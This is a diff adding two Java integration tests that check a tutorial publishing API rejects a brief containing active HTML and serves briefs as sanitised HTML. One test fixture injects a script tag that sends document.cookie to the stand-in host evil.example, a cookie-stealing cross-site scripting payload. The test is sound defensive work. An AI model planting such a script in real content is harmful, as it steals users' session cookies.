@@ -88,6 +88,30 @@ class AdminPublishingIT {
         assertThat(versionCount()).isEqualTo(versionsBefore);
     }
 
+    /** Probe 4.8: a brief with a script, an event handler and a script link was published and served as is. */
+    @Test
+    void publishWhenBriefHoldsActiveHtmlThen400WithFileAndLine() throws IOException {
+        int versionsBefore = versionCount();
+        Map<String, String> files = bundledFiles();
+        files.put("brief.md", files.get("brief.md") + "\n<script>fetch('https://evil.example?c=' + document.cookie)</script>\n");
+        int line = (int) files.get("brief.md").lines().count();
+        publish(files, TestTokens.admin("author")).expectStatus().isBadRequest()
+                .expectHeader().contentType(MediaType.APPLICATION_PROBLEM_JSON)
+                .expectBody()
+                .jsonPath("$.errors[0].file").isEqualTo(SLUG + "/brief.md")
+                .jsonPath("$.errors[0].line").isEqualTo(line)
+                .jsonPath("$.errors[0].message").value(m -> assertThat((String) m).contains("<script>"));
+        assertThat(versionCount()).isEqualTo(versionsBefore);
+    }
+
+    @Test
+    void getWhenTutorialPublishedThenBriefAlsoServedAsSanitisedHtml() {
+        JsonNode tutorial = http.get().uri("/api/v1/tutorials/{slug}", SLUG).exchange().expectStatus().isOk()
+                .expectBody(JsonNode.class).returnResult().getResponseBody();
+        assertThat(tutorial.path("briefHtml").asString()).startsWith("<h1>").contains("<p>")
+                .isEqualTo(BriefHtml.render(tutorial.path("brief").asString()));
+    }
+
     @Test
     void publishWhenRubricChangedWithoutNewVersionThenRejected() throws IOException {
         Map<String, String> files = bundledFiles();
